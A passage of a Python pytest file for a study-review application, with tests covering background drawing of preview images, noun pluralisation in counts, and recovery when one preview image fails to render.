    wait_for_background()  # drawn in a thread of its own, not on the admin's request
    assert seen == [False]
    with Session(demo_engine) as session:
        row = session.exec(select(Study).where(Study.name == "drawn first")).one()
        assert row.images_ready and row.images_drawn == 4


def test_counts_agree_with_their_nouns() -> None:
    from app.wording import plural

    assert [f"{n} {plural('case', n)} read" for n in (0, 1, 2)] == [
        "0 cases read", "1 case read", "2 cases read"]


def test_one_image_that_cannot_be_drawn_does_not_keep_a_study_closed(
        demo_engine: Engine, settings: Settings, study: StudySetup,
        monkeypatch: pytest.MonkeyPatch, caplog: pytest.LogCaptureFixture) -> None:
    from app.studies import previews
    from app.studies.models import Study

    real, calls = previews.item_diff, {"n": 0}

    def breaks_once(*args: object, **kwargs: object) -> object:
        calls["n"] += 1
        if calls["n"] == 1:
            raise OSError("image file is truncated")
        return real(*args, **kwargs)  # type: ignore[arg-type]

    monkeypatch.setattr(previews, "item_diff", breaks_once)
    with Session(demo_engine) as session:
        row = session.get(Study, study.study.id)
        assert row is not None
        previews.mark_preparing(session, row)
    assert previews.warm_previews(demo_engine, study.study.id or 0, settings.resolved_cache_dir()) == 7
    with Session(demo_engine) as session:
        row = session.get(Study, study.study.id)
        assert row is not None and row.images_ready
    assert any("preview not drawn" in r.getMessage() for r in caplog.records)
